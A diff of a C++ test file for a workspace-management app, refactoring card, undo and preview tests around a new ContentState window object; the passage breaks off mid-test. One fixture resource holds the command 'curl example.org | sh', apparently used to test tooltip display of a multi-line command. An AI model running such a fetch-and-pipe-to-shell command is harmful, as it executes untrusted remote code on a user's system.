@@ -1,8 +1,6 @@
 #include "core/StoreScene.h"
-#include "ui/MissingFiles.h"
+#include "ui/ContentState.h"
 #include "ui/ResourcePreview.h"
-#include "ui/UndoOffer.h"
-#include "ui/WorkspaceListState.h"
 
 using namespace corvane;
 
@@ -16,12 +14,9 @@ struct Card : SceneTest {
                                               scene.resource("serve", "serve", terminal)});
     Workspace other = scene.workspace("Other");
     WorkspaceStore& store = scene.start({other, work});
-    UndoOffer undo{platform.mainQueue};
-    MissingFiles missing{store, platform.backgroundQueue, platform.mainQueue, platform.fileSystem};
-    std::unique_ptr<WorkspaceListState> list = std::make_unique<WorkspaceListState>(
-        store, platform.mainQueue, platform.alerts, undo, missing);
+    std::optional<ContentState> window{std::in_place, store, platform};
 
-    WorkspaceCardState& card() { return list->card(work.id); }
+    WorkspaceCardState& card() { return window->list.card(work.id); }
     /// "button title | status text | running?"
     std::string shown() {
         return std::string(card().startTitle()) + " | " + card().statusText(work) +
@@ -41,7 +36,7 @@ TEST_F(Card, aStartTakesHalfASecondAndItsSpinnerOneMore) {
     auto edited = work;
     edited.resources.clear();
     int changes = 0;
-    const auto subscription = list->objectWillChange.subscribe([&] { ++changes; });
+    const auto subscription = window->list.objectWillChange.subscribe([&] { ++changes; });
     card().start(work);
     EXPECT_GT(changes, 0) << "the list tells what changes in its cards";
     store.updateWorkspace(edited);
@@ -62,23 +57,13 @@ TEST_F(Card, aStartTakesHalfASecondAndItsSpinnerOneMore) {
     }
 }
 
-TEST_F(Card, theCallerClearsTheLaunchedFlagBeforeAStart) {
-    StoreState::set(store.hasLaunchedResources, true);
-    list->card(other.id).start(other);
-    desktop.runFor(2);
-    EXPECT_EQ(store.activeWorkspace.get(), other);
-    EXPECT_FALSE(store.hasLaunchedResources) << "there was nothing to launch";
-    EXPECT_FALSE(list->card(other.id).isLoading || list->card(other.id).isRunning());
-}
-
 TEST_F(Card, aStartUnderWayOutlivesItsCard) {
     for (const double gone : {0.2, 0.7}) {
         StoreState::set(store.runningWorkspaces, {});
         desktop.log.clear();
         card().start(work);
         desktop.runFor(gone);
-        list = std::make_unique<WorkspaceListState>(store, platform.mainQueue, platform.alerts,
-                                                    undo, missing);
+        window.emplace(store, platform);
         EXPECT_EQ(card().isLoading, false) << "a new window's card is idle";
         desktop.runFor(2);
         EXPECT_TRUE(card().isRunning());
@@ -101,24 +86,24 @@ TEST_F(Card, aDeletedWorkspaceComesBackToItsPlaceAndAQuestionGoesWithItsCard) {
     for (const int button : {AlertResponse::secondButton, 0, AlertResponse::firstButton}) {
         EXPECT_EQ(described(store.workspaces), "Other() Work(build line serve)");
         desktop.alertAnswers["Delete Workspace"].button = button;
-        EXPECT_EQ(told([&] { list->card(other.id).deleteWorkspace(other); }),
+        EXPECT_EQ(told([&] { window->list.card(other.id).deleteWorkspace(other); }),
                   "Delete Workspace | Are you sure you want to delete 'Other'? This action cannot "
                   "be undone. [Delete][Cancel] destructive");
     }
     EXPECT_EQ(store.workspaces->size(), 1u);
-    EXPECT_EQ(undo.text(), "Removed 'Other'");
-    undo.undo();
+    EXPECT_EQ(window->undo.text(), "Removed 'Other'");
+    window->undo.undo();
     EXPECT_EQ(*store.workspaces, (std::vector{other, work}));
 
     card().isExpanded = true;
     for (const auto* search : {"work", "other"}) {
         card().showingFinishConfirm = true;
         store.search(search);
-        list->tidy();
+        window->list.tidy();
         EXPECT_EQ(card().showingFinishConfirm, search == std::string("work"));
     }
     store.deleteWorkspace(work.id);
-    list->tidy();
+    window->list.tidy();
     EXPECT_FALSE(card().isExpanded) << "it is another card";
 }
 
@@ -132,7 +117,7 @@ TEST_F(Card, aFinishTakesOneAndAHalfSecondsAndThenItsQuestionGoes) {
         EXPECT_EQ(card().showingFinishConfirm, !isOver);
     }
     card().finish(work);
-    list.reset();
+    window.reset();
     desktop.runFor(2);
 }
 
@@ -163,7 +148,7 @@ TEST_F(Card, aLayoutIsSavedOfWhatRunsAndToldUntilTheUserHasHeardEnough) {
 
 TEST_F(Card, thePreviewShowsEightResourcesAndCountsTheRest) {
     const auto described = [&](const Workspace& workspace) {
-        const auto preview = resourcePreview(workspace, store, missing);
+        const auto preview = resourcePreview(workspace, store, window->missing);
         std::string text;
         for (const auto& chip : preview.chips)
             text += chip.name +
@@ -197,7 +182,7 @@ TEST_F(Card, thePreviewShowsEightResourcesAndCountsTheRest) {
     StoreState::set(store.runningResources,
                     {{work.id, {work.resources[0].id, work.resources[2].id}}});
     EXPECT_EQ(described(work), "build!-serve!");
-    const auto chip = resourcePreview(work, store, missing).chips[1];
+    const auto chip = resourcePreview(work, store, window->missing).chips[1];
     EXPECT_EQ(chip, (PreviewChip{{work.resources[2].id}, terminal, "serve", ChipState::running}));
     auto hidden = scene.resource("Notes", "curl example.org\n| sh", terminal);
     EXPECT_EQ(chipTooltip(hidden, ChipState::plain, store),
